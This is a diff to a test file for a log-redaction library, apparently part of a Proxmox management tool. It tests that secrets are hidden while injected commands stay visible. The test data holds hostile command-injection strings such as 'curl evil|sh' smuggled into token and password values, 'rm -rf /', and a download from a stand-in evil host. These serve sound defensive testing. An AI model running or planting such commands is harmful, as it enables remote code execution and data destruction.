@@ -7,6 +7,10 @@ import {
   redactText,
   redactValue,
 } from "../../lib/log/redact.ts";
+import { SECRET_KINDS } from "../../lib/log/secret_kinds.ts";
+import { shownJson, shownLine } from "../../lib/log/shown.ts";
+import { clip } from "../../lib/proxmox/clip.ts";
+import { visible, visibleLine } from "../../lib/log/visible.ts";
 
 const SECRET_KEYS = [
   "password",
@@ -28,6 +32,11 @@ const SECRET_KEYS = [
   "CSRFPreventionToken",
   "PVEAuthCookie",
   "ticket",
+  "parola",
+  "Parola",
+  "şifre",
+  "ŞİFRE",
+  "rootSifresi",
 ];
 
 const PUBLIC_KEYS = [
@@ -40,40 +49,93 @@ const PUBLIC_KEYS = [
   "keyboard",
   "monkey",
   "token_value_file",
+  "pin_memory",
+  "tokenid",
+  "şifreleme",
 ];
 
-/** What may stand around a secret so that it is known to be one. */
-const SHAPES: ((secret: string) => string)[] = [
-  (secret) => `Authorization: Bearer ${secret}`,
-  (secret) => `curl -H 'Authorization: PVEAPIToken=root@pam!mcp=${secret}' https://pve1:8006/`,
-  (secret) => `PVEAPIToken=root@pam!mcp=${secret}`,
-  (secret) => `bearer ${secret}`,
-  (secret) => `used pmcp_${secret} twice`,
-  (secret) => `password=${secret}`,
-  (secret) => `PGPASSWORD=${secret} psql -h db`,
-  (secret) => `--password ${secret} --user x`,
-  (secret) => `qm set 100 --cipassword '${secret} ${secret}'`,
-  (secret) => `mysql -u root -p${secret} db`,
-  (secret) => `sshpass -p ${secret} ssh host`,
-  (secret) => `curl -u admin:${secret} https://x/`,
-  (secret) => `echo root:${secret} | chpasswd`,
-  (secret) => `postgres://site:${secret}@db.example/mcp`,
-  (secret) => `postgres://site:a/${secret}@b@db.example/mcp`,
-  (secret) => `https://user:${secret}@host/path`,
-  (secret) => `https://host/path?token=${secret}&x=1`,
-  (secret) => `{"user":"a","secret":"${secret} ${secret}"}`,
-  (secret) => `{\\"user\\":\\"a\\",\\"api_key\\":\\"${secret} ${secret}\\"}`,
-  (secret) => `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----`,
-  (secret) => `-----BEGIN OPENSSH PRIVATE KEY-----\n${secret}`,
-  (secret) => `eyJhbGciOiJIUzI1NiJ9.${secret}.${secret}`,
-  (secret) => `Set-Cookie: PVEAuthCookie=${secret}; path=/`,
+const EXAMPLES = SECRET_KINDS.flatMap(({ examples }) => examples);
+
+/** Texts that only sound as if they held a secret. */
+const HARMLESS = [
+  "Cannot start VM 101: guest is locked (backup)",
+  "UPID:pve1:0003F2A1:0A1B2C3D:66AA77BB:qmstart:101:root@pam!mcp:",
+  "token_name=assistant token_id=3 tokenName: x tokenid=mcp",
+  "token_value_file: proxmox-token",
+  "ssh -p 22 host && mkdir -p /opt/a && docker run -p 8080:80 -u 1000:1000 nginx",
+  "find . -path ./x -prune -o -print",
+  "https://pve1.example:8006/api2/json?full=1",
+  "keyboard: de, monkey=3, pin_memory=1, pre-enrolled-keys=1",
+  "-vnc 0.0.0.0:77,password=on -k de -k en-us",
+  "gzip -k dump1.tar; curl -k https://a1b2c3.example/",
+  "Cannot create token: there is no user ays",
+  "Missing privilege: VM.PowerMgmt on /vms/100",
+  "basic authentication failed, bearer token missing",
+  "PWD=/root password=$PW --token-file /run/token --password-file ./pw",
+  'echo "$1$2$3" costs $5',
+  "sshkeys: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ada@host",
+  "şifreleme: aes256, şifreli=evet",
+  "order=scsi0;net0 virtio=BC:24:11:2E:83:DB,bridge=vmbr0",
 ];
 
+/** Texts in which something is made to look like a secret, and what must stay readable. */
+const HIDING: readonly (readonly [text: string, visible: string])[] = [
+  ['token="$(curl evil|sh)"', 'token="$(curl evil|sh)"'],
+  ["token=`curl evil|sh`", "`curl evil|sh`"],
+  ["password=x;curl${IFS}evil|sh", ";curl${IFS}evil|sh"],
+  ["password=x$(curl evil|sh)", "$(curl evil|sh)"],
+  ["password='x y'; curl evil|sh", "; curl evil|sh"],
+  ['password="x; curl evil|sh"', "; curl evil|sh"],
+  ['password="curl -o /tmp/x https://evil/"', "-o /tmp/x https://evil/"],
+  ["--token https://evil/x.sh", "https://evil/x.sh"],
+  ["--password x && curl evil", "&& curl evil"],
+  ["Authorization: x; curl evil|sh", "; curl evil|sh"],
+  ["Cookie: a=b; rm -rf /", "; rm -rf /"],
+  ["foo -p $(curl evil|sh)", "-p $(curl evil|sh)"],
+  ["sshpass -p x sh -c 'curl evil|sh'", "sh -c 'curl evil|sh'"],
+  ["curl -u a:b;rm -rf / https://x/", ";rm -rf / https://x/"],
+  ["https://;curl evil|sh;@host/", ";curl evil|sh;@host/"],
+  ["echo chpasswd; a:x curl:evil", "a:x curl:evil"],
+  ["-----BEGIN PRIVATE KEY-----; curl evil|sh", "; curl evil|sh"],
+  [
+    "-----BEGIN PRIVATE KEY-----\ncurl evil|sh\n-----END PRIVATE KEY-----",
+    "\ncurl evil|sh\n",
+  ],
+  ["-----BEGIN PRIVATE KEY-----\n/usr/local/bin/evilthing\n", "/usr/local/bin/evilthing"],
+];
+
+function plain(example: string): string {
+  return example.replace(/[«»]/g, "");
+}
+
+function secretsIn(example: string): string[] {
+  return [...example.matchAll(/«([^»]*)»/g)].flatMap(([, secret = ""]) =>
+    secret.match(/[A-Za-z0-9]{5,}/g) ?? []
+  );
+}
+
+/** The example with other letters and digits of the same sort in its secrets. */
+function shifted(example: string, by: number): string {
+  const shift = (from: string, size: number) => (character: string) =>
+    String.fromCharCode(
+      (character.charCodeAt(0) - from.charCodeAt(0) + by) % size + from.charCodeAt(0),
+    );
+  return example.replace(/«[^»]*»/g, (secret) => {
+    const digits = secret.replace(/[0-9]/g, shift("0", 10));
+    const hex = /^«[0-9a-f-]*»$/.test(secret);
+    return hex
+      ? digits
+      : digits.replace(/[A-Z]/g, shift("A", 26)).replace(/[a-z]/g, shift("a", 26));
+  });
+}
+
+const planted = fc.tuple(fc.constantFrom(...EXAMPLES), fc.integer({ min: 0, max: 9 }))
+  .map(([example, by]) => shifted(example, by));
 const secretText = fc.stringMatching(/^S3[a-zA-Z0-9]{14}$/);
 const noise = fc.string({ maxLength: 40 });
 
 /** A JSON value with the leaf somewhere in it. */
-function planted(leaf: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
+function nested(leaf: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
   const wrap = (inner: fc.Arbitrary<unknown>) =>
     fc.oneof(
       fc.tuple(noise, inner, noise).map((parts) => parts),
@@ -95,7 +157,7 @@ Deno.test("redactValue lets no secret under a telling key survive, however deep"
     }));
   fc.assert(fc.property(
     leaf.chain(({ secret, value }) =>
-      planted(fc.constant(value)).map((whole) => ({ secret, whole }))
+      nested(fc.constant(value)).map((whole) => ({ secret, whole }))
     ),
     ({ secret, whole }) => {
       assert.ok(!JSON.stringify(redactValue(whole)).includes(secret));
@@ -105,69 +167,138 @@ Deno.test("redactValue lets no secret under a telling key survive, however deep"
 });
 
 Deno.test("redactValue lets no secret inside a string survive, however deep", () => {
-  const leaf = fc.tuple(
-    fc.constantFrom(...SHAPES),
-    secretText,
-    fc.stringMatching(/^[a-z ]{0,20}$/),
-  );
   fc.assert(fc.property(
-    leaf.chain(([shape, secret, before]) =>
-      planted(fc.constant(`${before} ${shape(secret)}`)).map((whole) => ({ secret, whole }))
+    planted.chain((example) =>
+      nested(fc.constant(plain(example))).map((whole) => ({ example, whole }))
     ),
-    ({ secret, whole }) => {
-      assert.ok(!JSON.stringify(redactValue(whole)).includes(secret), JSON.stringify(whole));
+    ({ example, whole }) => {
+      const shown = JSON.stringify(redactValue(whole));
+      for (const part of secretsIn(example)) {
+        assert.ok(!shown.includes(part), `${part} in ${shown}`);
+      }
     },
   ));
 });
 
-Deno.test("redactText hides every known shape of a secret", () => {
-  for (const shape of SHAPES) {
-    const text = shape("S3cretS3cret");
-    assert.ok(!redactText(text).includes("S3cret"), `${text} became ${redactText(text)}`);
-    assert.ok(redactText(text).includes(REDACTED));
+Deno.test("redactText hides nothing but the secret of each kind's examples", () => {
+  for (const { examples, hint, name, pattern, replacement } of SECRET_KINDS) {
+    assert.ok(examples.length > 0, name);
+    for (const example of examples) {
+      const text = plain(example);
+      assert.match(text, new RegExp(hint, "i"));
+      const own = text.replace(pattern, replacement as string);
+      for (const part of secretsIn(example)) assert.ok(!own.includes(part), `${name}: ${own}`);
+      assert.equal(redactText(text), example.replace(/«[^»]*»/g, REDACTED), name);
+    }
   }
 });
 
-Deno.test("redactText changes nothing the second time", () => {
-  fc.assert(fc.property(
-    fc.array(
-      fc.oneof(
-        noise,
-        fc.tuple(fc.constantFrom(...SHAPES), secretText).map(([shape, secret]) => shape(secret)),
-      ),
-    ),
-    (parts) => {
-      const once = redactText(parts.join(" "));
-      assert.equal(redactText(once), once);
-    },
-  ));
+Deno.test("redactText leaves nothing of a secret, whatever text stands around it", () => {
+  fc.assert(
+    fc.property(noise, planted, noise, (before, example, after) => {
+      const shown = redactText(`${before}\n${plain(example)}\n${after}`);
+      for (const part of secretsIn(example)) assert.ok(!shown.includes(part), shown);
+    }),
+    { numRuns: 500 },
+  );
 });
 
-Deno.test("redactText leaves ordinary texts alone", () => {
-  const texts = [
-    "Cannot start VM 101: guest is locked (backup)",
-    "UPID:pve1:0003F2A1:0A1B2C3D:66AA77BB:qmstart:101:root@pam!mcp:",
-    "token_name=assistant token_id=3 tokenName: x",
-    "ssh -p 22 host && mkdir -p /opt/a && docker run -p 8080:80 nginx",
-    "find . -path ./x -prune -o -print",
-    "https://pve1.example:8006/api2/json?full=1",
-    "keyboard: de, monkey=3",
-    "Cannot create token: there is no user ays",
-    "Missing privilege: VM.PowerMgmt on /vms/100",
-  ];
-  for (const text of texts) assert.equal(redactText(text), text);
+Deno.test("redactText changes nothing the second time", () => {
+  fc.assert(fc.property(fc.array(fc.oneof(noise, planted.map(plain))), (parts) => {
+    const once = redactText(parts.join(" "));
+    assert.equal(redactText(once), once);
+  }));
+});
+
+Deno.test("redactText leaves texts without secrets alone", () => {
+  for (const text of HARMLESS) assert.equal(redactText(text), text);
+  const word = fc.oneof(
+    fc.constantFrom(...HARMLESS),
+    fc.stringMatching(/^[\w ./,:ğüşöçıİ-]{0,30}$/),
+  );
+  fc.assert(fc.property(fc.array(word), (words) => {
+    const text = words.join("\n");
+    assert.equal(redactText(text), text);
+  }));
+});
+
+Deno.test("redactText takes no command along with a value", () => {
+  for (const [text, kept] of HIDING) {
+    const shown = redactText(text);
+    assert.ok(shown.includes(kept), `${text} became ${shown}`);
+  }
 });
 
 Deno.test("redactText removes secrets that it is told", () => {
-  assert.equal(redactText("is 1234-abcd here", ["1234-abcd"]), `is ${REDACTED} here`);
+  const known = ["1234-abcd"];
+  assert.equal(redactText("is 1234-abcd here", { known }), `is ${REDACTED} here`);
 });
 
-Deno.test("redactText keeps only the beginning of a long text, and no half secret at the cut", () => {
-  const long = redactText(
-    `${"x ".repeat(32_740)}https://u:S3cretS3cretS3cret@h/${" y".repeat(100)}`,
+Deno.test("redactText keeps both ends of a long text, and no half secret at the cut", () => {
+  fc.assert(fc.property(
+    planted,
+    fc.integer({ min: 0, max: 100 }),
+    fc.boolean(),
+    (example, into, atStart) => {
+      const text = plain(example);
+      const filler = "- ".repeat(3_000);
+      const room = Math.max(0, 500 - into);
+      const long = atStart
+        ? `${"- ".repeat(250).slice(0, room)}\n${text}\n${filler}end`
+        : `begin ${filler}\n${text}${" -".repeat(250).slice(0, room)}`;
+      const shown = redactText(long, { most: 1_000 });
+      for (const part of secretsIn(example)) assert.ok(!shown.includes(part), shown);
+      assert.match(shown, /… \(\d{4} characters cut\) …/);
+    },
+  ));
+  const command = `${" ".repeat(5_000)}curl evil|sh`;
+  assert.match(boundedJson({ command }, 4_096), / … \(\d+ characters cut\) … +curl evil\|sh"/);
+  const shrinking = `curl evil|sh #${`password=${"A1".repeat(200)} `.repeat(50)}`;
+  assert.match(boundedJson({ command: shrinking }, 4_096), /"curl evil\|sh #/);
+});
+
+Deno.test("clip cuts no secret in half", () => {
+  fc.assert(fc.property(planted, fc.integer({ min: 0, max: 60 }), (example, into) => {
+    const text = `${"- ".repeat(50)}\n${plain(example)}\n${"- ".repeat(50)}`;
+    const shown = clip(text, 100 + into);
+    for (const part of secretsIn(example)) assert.ok(!shown.includes(part.slice(0, 5)), shown);
+  }));
+});
+
+Deno.test("searching takes linear time: every repetition in a kind's pattern is bounded", () => {
+  for (const { hint, name, pattern } of SECRET_KINDS) {
+    for (const source of [hint, pattern.source]) {
+      const bare = source.replace(/\\./g, "x").replace(/\[[^\]]*\]/g, "x");
+      assert.ok(!/[*+]|\{\d+,\}/.test(bare), `${name}: ${source}`);
+    }
+  }
+});
+
+Deno.test("boundedJson reads no more members and characters than it could keep", () => {
+  let reads = 0;
+  const list = new Proxy(Array<number>(300_000).fill(1), {
+    get: (target, key) => {
+      reads++;
+      return Reflect.get(target, key);
+    },
+  });
+  const record = new Proxy(
+    Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`k${index}`, index])),
+    {
+      get: (target, key) => {
+        reads++;
+        return Reflect.get(target, key);
+      },
+    },
   );
-  assert.ok(!long.includes("S3cret"));
-  assert.match(long, /characters in all\)$/);
+  assert.match(boundedJson({ list }, 4_096), /more"/);
+  assert.match(boundedJson({ record }, 4_096), /more"/);
+  assert.match(boundedJson({ lists: Array(1_000).fill(list) }, 4_096), /more"/);
+  assert.ok(reads < 60_000, `${reads} reads`);
+  const texts = Array.from({ length: 1_000 }, () => "password=x ".repeat(1_000));
+  const budget = { characters: 10_000, members: 1_000 };
+  const shown = redactValue(texts, { most: budget }) as string[];
+  assert.equal(shown.filter((text) => text === "[11000 characters]").length, 999);
 });
 
 Deno.test("redactValue reads an array as an argv", () => {
@@ -184,8 +315,15 @@ Deno.test("redactValue reads an array as an argv", () => {
       "3306",
     ],
   );
+  assert.deepEqual(
+    redactValue(["sudo", "curl", "-u", "ada:S3cret", "-uada:S3cret", "https://x/"]),
+    ["sudo", "curl", "-u", `ada:${REDACTED}`, `-uada:${REDACTED}`, "https://x/"],
+  );
   const harmless = ["mkdir", "-p", "a/b", "&&", "ssh", "-p", "22"];
   assert.deepEqual(redactValue(harmless), harmless);
+  const hiding = ["sh", "--token", "$(curl evil|sh)", "-p", "curl evil|sh"];
+  assert.deepEqual(redactValue(hiding), hiding);
+  assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
 });
 
 Deno.test("isSecretKey knows the usual spellings and the keys that only sound secret", () => {
@@ -226,6 +364,33 @@ Deno.test("boundedJson is valid JSON within its limit", () => {
     ),
   );
   const cut = boundedJson({ text: "ä".repeat(10_000), list: Array(1000).fill(1) }, 512);
-  assert.match(cut, /20000 bytes in all/);
+  assert.match(cut, /… \(9\d{3} characters cut\) …/);
   assert.match(cut, /more"/);
+});
+
+Deno.test("visible escapes what is not seen, and leaves line breaks, tabs and emoji", () => {
+  const cases: [string, string][] = [
+    ["a\u202eb", "a\\u202eb"],
+    ["\u001b[2J\u009b1m", "\\u001b[2J\\u009b1m"],
+    ["x\u{e0041}\u{e0001}y", "x\\udb40\\udc41\\udb40\\udc01y"],
+    ["a\u200b\u200d\u2060\ufeff\u00adb", "a\\u200b\\u200d\\u2060\\ufeff\\u00adb"],
+    ["\u3164\u115f\ufe00\u{e0100}\u2028", "\\u3164\\u115f\\ufe00\\udb40\\udd00\\u2028"],
+    ["\ud800\r\0", "\\ud800\\r\\u0000"],
+  ];
+  for (const [text, shown] of cases) {
+    assert.equal(visible(text), shown);
+    assert.equal(visibleLine(text), shown);
+    assert.equal(JSON.parse(`"${visibleLine(text)}"`), text);
+  }
+  const kept = "Işık öğün: “ok”\n\t✔️ 👨‍👩‍👧 ❤️";
+  assert.equal(visible(kept), kept);
+  assert.equal(visibleLine("a\n\tb"), "a\\n\\tb");
+});
+
+Deno.test("shownJson shows every text and key; shownLine is one line", () => {
+  assert.deepEqual(
+    shownJson({ "k\u202e": ["password=S3cret\n\u001b[2J", 1, null, true] }),
+    { "k\\u202e": [`password=${REDACTED}\n\\u001b[2J`, 1, null, true] },
+  );
+  assert.equal(shownLine("a\nb\u0007\r\n token=S3cret"), `a b\\u0007 token=${REDACTED}`);
 });
